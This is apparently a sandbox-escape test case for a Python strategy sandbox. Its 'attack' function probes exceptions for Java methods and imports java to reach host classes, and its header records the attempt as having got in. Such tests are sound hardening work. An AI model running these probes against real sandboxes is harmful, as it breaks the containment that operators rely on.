# id: J14
# family: interop
# goal: catch an exception of the host's language and walk from it to its class loader
# finding: PY123 PY306 PY403
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    for trial in (lambda: "x" * -1 + "y" * (1 << 40), lambda: int("9" * 5000), lambda: 2.0**5000):
        try:
            trial()
        except BaseException as error:
            found = getattr(error, "getClass", None) or getattr(error, "getStackTrace", None)
            if found is not None:
                return found()
    import java

    try:
        java.type("java.lang.Integer").parseInt("x")
    except BaseException as error:
        return error.getClass().getName()


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
